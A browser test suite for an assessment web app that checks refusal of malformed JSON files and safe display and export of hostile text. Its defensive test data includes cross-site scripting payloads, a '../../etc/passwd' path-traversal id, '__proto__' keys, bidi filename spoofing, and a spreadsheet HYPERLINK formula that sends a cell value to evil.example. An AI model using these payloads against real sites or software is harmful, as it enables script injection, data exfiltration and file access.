// Bad files and hostile texts: a clear message that names the file and what is wrong with it, nothing
// lost, nothing changed, nothing executed; and every text shown and exported exactly as it was written.
import assert from "node:assert/strict";
import {
  PROFILE, STRATEGY, addEvidence, answers, check, choose, current, document, download, downloadJson, file, go, home, instrument,
  listed, metrics, open, openFile, reload, saved, setProfile, start, stores, submit, tab, until, world,
} from "./steps.mjs";

const its = world();
const of = instrument("omnichannel");
const [first, second] = of.walk.map((item) => item.id);

// ---------------------------------------------------------------- bad files
const good = (fields = {}) => document(of, { id: "from-the-file", ...fields });
const answer = (value) => good({ responses: { [first]: value } });
const text = (content) => JSON.stringify(content);
const evidence = (fields) => answer({ level: 3, evidence: [{ title: "a", place: "", owner: "", date: "2026-01-01", ...fields }] });

const BAD = [
  ["empty", "", /empty/],
  ["white space", " \n\t", /empty/],
  ["truncated", text(good()).slice(0, 700), /stops in the middle/],
  ["broken", text(good()).replace(",", ";"), /JSON.*line 1, column \d+/],
  ["no JSON at all", "organisation;level\nA;3\n", /valid JSON/],
  ["two documents", `${text(good())}{}`, /valid JSON/],
  ["other people's JSON", `{"name":"left-pad","version":"1.3.0"}`, /JSON.*Touchstone/],
  ["a list", "[1,2,3]", /JSON.*Touchstone/],
  ["only a number", "42", /JSON.*Touchstone/],
  ["a benchmark", text({ format: "touchstone-benchmark", version: 1 }), /another kind/],
  ["an instrument with a field it does not have", text({ ...of, walk: undefined }), /walk|digest/],
  ["newer version", text(good({ version: 2 })), /newer.*2.*1/],
  ["version 0", text(good({ version: 0 })), /version/],
  ["version as text", text(good({ version: "1" })), /version/],
  ["unknown instrument", text(good({ instrument: { id: "wellness", version: "1", digest: "" } })), /“wellness”/],
  ["hostile instrument id", text(good({ instrument: { id: "../../etc/passwd", version: "1", digest: "" } })), /“\.\.\/\.\.\/etc\/passwd”/],
  ["no instrument", text(good({ instrument: undefined })), /instrument.*missing|missing.*instrument/],
  ["unknown item", text(good({ responses: { "oc-no-such-item": { level: 3 } } })), /responses\.oc-no-such-item/],
  ["prototype as item", text(good()).replace(`"responses":{`, `"responses":{"__proto__":{"level":3},`), /responses\.__proto__/],
  ["unknown profile field", text(good({ profile: { shoe: "44" } })), /profile\.shoe/],
  ["unknown statement", text(good({ statements: { strategy: "none" } })), /statements\.strategy/],
  ["level 6", text(answer({ level: 6 })), new RegExp(`responses\\.${first}\\.level.*1 to 5.*6`)],
  ["level 0", text(answer({ level: 0 })), /\.level.*1 to 5.*0/],
  ["level 2.5", text(answer({ level: 2.5 })), /\.level.*1 to 5.*2\.5/],
  ["level “3”", text(answer({ level: "3" })), /\.level.*1 to 5.*"3"/],
  ["level huge", text(answer({ level: 0 })).replace(`"level":0`, `"level":1e999`), /level|valid JSON/],
  ["two answers at once", text(answer({ level: 3, dont_know: true })), /one answer/],
  ["an answer that is no object", text(answer(3)), new RegExp(`responses\\.${first}`)],
  ["note that is no text", text(answer({ level: 3, note: ["a"] })), /\.note.*a text/],
  ["evidence with no date", text(evidence({ date: "yesterday" })), /evidence.*day/],
  ["evidence of 30 February", text(evidence({ date: "2026-02-30" })), /evidence.*day/],
  ["flag that is no yes or no", text(answer({ flag: "yes" })), /\.flag.*true or false/],
  ["odd mode", text(good({ mode: "spy" })), /mode.*own, third-party/],
  ["odd moment", text(good({ changed: "last week" })), /changed.*moment/],
  ["hostile id", text(good({ id: `"><img src=x onerror=window.hacked=1>` })), /“id”/],
  ["duplicate keys", text(good()).replace(`"responses":{`, `"responses":{"${first}":{"level":1},`), new RegExp(`responses\\.${first}.*twice`)],
  ["duplicate inside an answer", text(answer({ level: 3 })).replace(`{"level":3}`, `{"level":3,"level":4}`), /\.level.*twice/],
  ["6 MiB", `{"format":"touchstone-assessment","pad":"${"x".repeat(6 * 1024 * 1024)}"}`, /5 MB/],
  ["10,001-character title", text(good({ title: "字".repeat(10_001) })), /title.*10,000/],
  ["10,001-character key", text(good({ profile: { ["k".repeat(10_001)]: "" } })), /10,000/],
  ["too many entries", text(good({ profile: Object.fromEntries(Array.from({ length: 2_100 }, (_, n) => [`f${n}`, ""])) })), /too many entries/],
  ["not UTF-8", Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]), /not a text file/],
  ["a picture", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), /not a text file/],
  ["UTF-16", Buffer.from(`\ufeff${text(good())}`, "utf16le"), /not a text file/],
  ["deeply nested", "[".repeat(200_000), /nested too deeply/],
  ["deeply nested and whole", `${text(good()).slice(0, -1)},"extra":${"[".repeat(5_000)}${"]".repeat(5_000)}}`, /nested too deeply/],
  ["broken seal", text(good({ revision: { submitted: "2026-01-01T00:00:00Z", digest: `sha256:${"0".repeat(64)}` } })), /changed after it was submitted/],
];

check(its, "bad files are refused with a message, and nothing changes", {}, async ({ t, tab: newTab, url }) => {
  const page = await newTab();
  await open(page, url);
  await openFile(page, document(of));
  await saved(page);
  await tab(page, "results");
  const before = { numbers: await metrics(page), file: await downloadJson(page) };
  await home(page);
  const [list, kept] = [await listed(page), await stores(page)];
  for (const [name, content, wanted] of BAD) {
    await t.test(name, async () => {
      const title = `the ${name}.json`;
      await page.setInputFiles("[data-open]", file(content, title));
      const notice = page.locator("[data-refused]").filter({ hasText: title });
      await notice.waitFor();
      const words = await notice.textContent();
      assert.match(words, wanted);
      assert.match(words, /nothing was changed/);
      assert.deepEqual(await listed(page), list);
      assert.ok(await page.isVisible("main#home"));
    });
  }
  assert.deepEqual(await stores(page), kept);
  await page.click("[data-refused] button");
  await page.waitForSelector("[data-refused]", { state: "detached" });
  await page.click("[data-continue]");
  await tab(page, "results");
  assert.deepEqual(await metrics(page), before.numbers);
  assert.deepEqual(await downloadJson(page), before.file);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
});

check(its, "a refusal is said in Chinese, and follows the language", { lang: "zh-Hans" }, async ({ tab: newTab, url }) => {
  const page = await newTab();
  await open(page, url);
  await page.setInputFiles("[data-open]", file(text(answer({ level: 6 })), "六级.json"));
  await page.locator("[data-refused]", { hasText: "“六级.json”没有打开" }).waitFor();
  await page.click("[data-lang]:not([hidden])");
  await page.locator("[data-refused]", { hasText: "“六级.json” was not opened" }).waitFor();
});

check(its, "what the limits allow is opened: 10,000 characters, a byte-order mark, unknown fields kept", {}, async ({ tab: newTab, url }) => {
  const page = await newTab();
  await open(page, url);
  const whole = good({ title: "字".repeat(10_000), novelty: { kept: [1, 2] }, responses: { [first]: { level: 3, colour: "green" } } });
  await openFile(page, `\ufeff${text(whole)}`);
  assert.deepEqual(await downloadJson(page), whole);
  await saved(page);
  await reload(page);
  await page.waitForSelector("#page h1");
  assert.deepEqual(await downloadJson(page), whole);
});

check(its, "a file whose id is taken by other answers opens beside them", {}, async ({ tab: newTab, url }) => {
  const page = await newTab();
  await open(page, url);
  await openFile(page, good({ organisation: "Mine" }));
  const other = good({ organisation: "Theirs", responses: answers(of, () => ({ level: 1 })) });
  const id = await openFile(page, other);
  assert.notEqual(id, "from-the-file");
  assert.deepEqual((await downloadJson(page)).responses, other.responses);
  await go(page, "#/a/from-the-file/results");
  assert.deepEqual((await downloadJson(page)).responses, good().responses);
  await home(page);
  assert.equal((await listed(page)).length, 2);
});

check(its, "opening the same file twice makes one assessment", {}, async ({ tab: newTab, url }) => {
  const page = await newTab();
  await open(page, url);
  await openFile(page, good());
  await home(page);
  await openFile(page, good());
  await home(page);
  assert.equal((await listed(page)).length, 1);
});

check(its, "a file may be dropped on the home page", {}, async ({ tab: newTab, url }) => {
  const page = await newTab();
  await open(page, url);
  const drop = (name, content) => page.evaluate(({ name, content }) => {
    const dataTransfer = new DataTransfer();
    dataTransfer.items.add(new File([content], name, { type: "application/json" }));
    const zone = document.getElementById("drop");
    zone.dispatchEvent(new DragEvent("dragover", { dataTransfer, bubbles: true, cancelable: true }));
    zone.dispatchEvent(new DragEvent("drop", { dataTransfer, bubbles: true, cancelable: true }));
  }, { name, content });
  await drop("dropped.json", "{");
  await page.locator("[data-refused]", { hasText: "dropped.json" }).waitFor();
  await drop("dropped.json", text(good()));
  await page.waitForSelector("#page h1:focus");
  assert.deepEqual(await downloadJson(page), good());
  assert.equal(await page.locator("[data-refused]").count(), 0);
});

// ---------------------------------------------------------------- hostile texts
const HOSTILE = {
  script: `<script>window.hacked=1</script>`,
  image: `<img src=x onerror="window.hacked=1">`,
  svg: `</title></text><svg onload=window.hacked=1><script>window.hacked=1</script>`,
  formula: `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  link: `javascript:window.hacked=1`,
  quotes: `"'\`&quot;&amp;&#39;\\";--`,
  bidi: `\u202Egnp.exe\u202C \u2066a\u2069`,
  braces: `{name} {n} {{}} %s \${1}`,
};
const ALL = Object.values(HOSTILE).join(" ");

/** Nothing ran, and no element or link came out of a text. */
async function harmless(page) {
  const found = await page.evaluate(() => ({
    hacked: window.hacked,
    elements: document.querySelectorAll("#page :is(script, img, iframe, object, embed), .bar :is(script, img), #slot-over script").length,
    handlers: [...document.querySelectorAll("*")].flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))),
    links: [...document.querySelectorAll("body :is([href], [src], [action])")].map((one) => one.getAttribute("href") ?? one.getAttribute("src") ?? "").filter((to) => /^\s*(javascript|data):/i.test(to)),
  }));
  assert.deepEqual(found, { hacked: undefined, elements: 0, handlers: [], links: [] });
}

check(its, "hostile texts typed by hand are shown verbatim everywhere", {}, async ({ tab: newTab, url }) => {
  const cc = instrument("contact-centre"), page = await newTab();
  await open(page, url);
  await openFile(page, document(cc, { title: "", organisation: "" }));
  const id = await current(page), [one, two] = cc.walk.map((item) => item.id);
  await page.click(".bar .doc");
  await page.fill("#name-organisation", ALL);
  await page.fill("#name-title", HOSTILE.image);
  await page.click("dialog [data-confirm]");
  await until(() => page.textContent(".bar .doc b"), ALL);
  assert.equal(await page.textContent(".bar .doc-t span"), HOSTILE.image);

  await go(page, `#/a/${id}/answer/${one}`);
  await choose(page, one, { level: 5 });
  await page.fill(`#note-${one}`, ALL);
  const piece = { title: HOSTILE.image, place: HOSTILE.link, owner: HOSTILE.script };
  await addEvidence(page, one, piece);
  const row = page.locator("[data-evidence]");
  assert.ok((await row.textContent()).includes(HOSTILE.image));
  assert.ok((await row.textContent()).includes(HOSTILE.link));
  assert.equal(await row.locator("a[href^='javascript' i]").count(), 0);
  await page.fill("#statement-strategy", ALL);
  await go(page, `#/a/${id}/answer/${two}`);
  await choose(page, two, { not_applicable: ALL });
  await harmless(page);

  await tab(page, "review");
  assert.ok((await page.textContent("#page")).includes(ALL));
  await harmless(page);
  await tab(page, "results");
  assert.ok((await page.textContent(".answers")).includes(ALL));
  assert.ok((await page.textContent(".answers")).includes(HOSTILE.link));
  await harmless(page);

  await tab(page, "submit");
  for (const [field, value] of Object.entries(PROFILE)) await setProfile(page, field, value);
  for (const field of ["first-name", "last-name", "title", "company"]) await setProfile(page, field, HOSTILE[{ "first-name": "script", "last-name": "formula", title: "quotes", company: "bidi" }[field]]);
  assert.equal(await page.inputValue("#statement-strategy"), ALL);
  await submit(page);
  assert.ok((await page.textContent("#page")).includes(ALL));
  await harmless(page);
  const kept = await downloadJson(page);
  assert.deepEqual([kept.organisation, kept.title, kept.statements.strategy, kept.responses[two].not_applicable], [ALL, HOSTILE.image, ALL, ALL]);
  assert.deepEqual(kept.responses[one].evidence.map(({ date, ...rest }) => rest), [piece]);
  await saved(page);
  await reload(page);
  await page.waitForSelector("#page h1");
  assert.deepEqual(await downloadJson(page), kept);
  await home(page);
  assert.deepEqual((await listed(page))[0].slice(0, 2), [ALL, HOSTILE.image]);
  await page.locator(".more summary").click();
  await page.click("[data-act=delete]");
  assert.ok((await page.textContent("dialog")).includes(ALL));
  await harmless(page);
});

check(its, "hostile texts from a file are as harmless, and its exports parse", {}, async ({ tab: newTab, url }) => {
  const page = await newTab();
  const pieces = Object.values(HOSTILE).map((title) => ({ title, place: HOSTILE.link, owner: HOSTILE.formula, date: "2026-01-01" }));
  const responses = answers(of);
  Object.values(HOSTILE).forEach((note, at) => Object.assign(responses[of.walk[at].id], { note, evidence: pieces }));
  responses[second] = { not_applicable: HOSTILE.formula, note: HOSTILE.formula };
  const whole = good({ organisation: HOSTILE.formula, title: HOSTILE.script, responses });
  await open(page, url);
  await openFile(page, whole, `<img src=x onerror=window.hacked=1>.json`);
  await harmless(page);
  for (const name of ["review", "results"]) {
    await tab(page, name);
    await harmless(page);
  }
  const json = await download(page, () => page.click("[data-export=json]"));
  assert.deepEqual(JSON.parse(json.text), whole);
  const long = await download(page, () => page.click("[data-export=csv]"));
  const wide = await download(page, () => page.click("[data-export-wide]"));
  for (const { name, text: csv } of [long, wide]) {
    assert.match(name, /^touchstone-[\p{L}\p{N}-]+(\.wide)?\.csv$/u);
    assert.ok(csv.includes(`"'${HOSTILE.formula.replaceAll(`"`, `""`)}"`), "the formula cell is neutralised with an apostrophe");
    assert.doesNotMatch(csv, /(^|,|\r\n)"?[=+@\t\r]/, "no cell starts as a formula");
  }
  const svg = await download(page, () => page.click("[data-chart=bars-svg]"));
  const parsed = await (await page.context().newPage()).evaluate((source) => {
    const root = new DOMParser().parseFromString(source, "image/svg+xml");
    return [root.documentElement.localName, root.querySelectorAll("parsererror, script, foreignObject").length];
  }, svg.text);
  assert.deepEqual(parsed, ["svg", 0]);
});

check(its, "a refused file's hostile name is shown verbatim", {}, async ({ tab: newTab, url }) => {
  const page = await newTab(), name = `<img src=x onerror=window.hacked=1>.json`;
  await open(page, url);
  await page.setInputFiles("[data-open]", file("{", name));
  await page.locator("[data-refused]", { hasText: name }).waitFor();
  await page.setInputFiles("[data-open]", file(text(good({ instrument: { id: HOSTILE.script, version: "", digest: "" } })), "x.json"));
  await page.locator("[data-refused]", { hasText: HOSTILE.script }).waitFor();
  await harmless(page);
});

check(its, "hostile addresses and settings open a page that says so", {}, async ({ tab: newTab, url }) => {
  const page = await newTab();
  await open(page, `${url}?lang=%3Cscript%3E&theme=x"y&instrument=%3Cimg%20src%3Dx%3E`);
  assert.ok(await page.isVisible("main#home"));
  for (const hash of ["#/a/<img src=x onerror=window.hacked=1>/results", "#/start/<b>", "#/example/../x", "#/blank/constructor", "#/a/__proto__/answer/x"]) {
    await page.evaluate((to) => { location.hash = to; }, hash);
    await page.waitForFunction(() => document.querySelector("#page h1")?.checkVisibility() || document.querySelector("#home h1").checkVisibility());
    await harmless(page);
    await home(page);
  }
  await start(page, "omnichannel");
  await choose(page, first, { level: 1 });
  await page.goto(`${url}#/a/${await current(page)}/answer/no-such-question`);
  await page.getByText("no such question").waitFor();
});
